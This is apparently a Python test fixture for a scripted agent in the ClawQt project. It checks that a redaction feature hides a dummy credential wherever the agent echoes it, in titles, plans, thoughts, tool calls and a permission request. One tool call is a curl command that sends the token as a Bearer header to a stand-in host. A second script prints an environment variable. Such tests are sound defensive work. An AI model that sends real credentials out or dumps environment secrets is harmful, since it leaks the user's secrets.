"""Prompt scripts of the scripted agent that echo one of ClawQt's terminal credentials in every field an
agent fills (registered in scripted_agent.py's PROMPTS): the reply and a thought in pieces (the prefix
split from the rest), a plan, the title, the command list, a tool call's title and arguments, and a
permission request whose answer ends the turn. A window that cuts credentials on the assembled text
shows `cqt_…` everywhere and the credential nowhere."""

from __future__ import annotations

import itertools
import os
from typing import Any

SECRET = "cqt_" + "Q7wZ-k_9" * 5


def split(text: str, *cuts: int) -> list[str]:
    edges = [0, *cuts, len(text)]
    return [text[a:b] for a, b in itertools.pairwise(edges)]


async def prompt_leak_token(agent: Any, sid: str, params: dict[str, Any], text: str) -> str:
    """`leak-token`: the credential in every field, then a permission request (its answer ends it)."""
    agent.update(sid, {"sessionUpdate": "session_info_update", "title": f"Chat {SECRET}"})
    commands = [{"name": "token", "description": f"prints {SECRET}"}]
    agent.update(sid, {"sessionUpdate": "available_commands_update", "availableCommands": commands})
    entries = [{"content": f"send {SECRET}", "status": "pending", "priority": "high"}]
    agent.update(sid, {"sessionUpdate": "plan", "entries": entries})
    for piece in split(f"Thinking of {SECRET}.", 13, 14, 20):
        agent.chunk(sid, piece, "agent_thought_chunk")
    agent.update(
        sid,
        {
            "sessionUpdate": "tool_call",
            "toolCallId": "t-leak",
            "title": f"echo {SECRET}",
            "kind": "execute",
            "status": "completed",
            "rawInput": {"command": f"echo {SECRET}"},
        },
    )
    for piece in split(f"Your token is {SECRET} (keep it).", 15, 16, 17, 30):
        agent.chunk(sid, piece)
    response = await agent.request(
        "session/request_permission",
        {
            "sessionId": sid,
            "toolCall": {
                "toolCallId": "t-leak-perm",
                "title": f"Send {SECRET}",
                "kind": "execute",
                "rawInput": {"command": f"curl -H 'Authorization: Bearer {SECRET}' http://x.invalid"},
            },
            "options": [
                {"optionId": "allow", "name": "Allow", "kind": "allow_once"},
                {"optionId": "deny", "name": "Deny", "kind": "reject_once"},
            ],
        },
    )
    outcome = (response or {}).get("outcome", {})
    agent.chunk(sid, f"\n\npermission: {outcome.get('optionId') or outcome.get('outcome')}")
    return "end_turn"


async def prompt_echo_env(agent: Any, sid: str, params: dict[str, Any], text: str) -> str:
    """`echo-env NAME`: a tool whose output is the agent's own environment variable NAME (an agent
    printing what it was started with)."""
    name = text.split()[1] if len(text.split()) > 1 else "HOME"
    output = f"{name}={os.environ.get(name, '')}"
    content = [{"type": "content", "content": {"type": "text", "text": output}}]
    call = {"toolCallId": f"t-env-{name}", "title": f"printenv {name}", "kind": "execute", "content": content}
    agent.update(sid, {"sessionUpdate": "tool_call", "status": "completed", **call})
    agent.chunk(sid, "printed it")
    return "end_turn"


PROMPTS = {"leak-token": prompt_leak_token, "echo-env": prompt_echo_env}
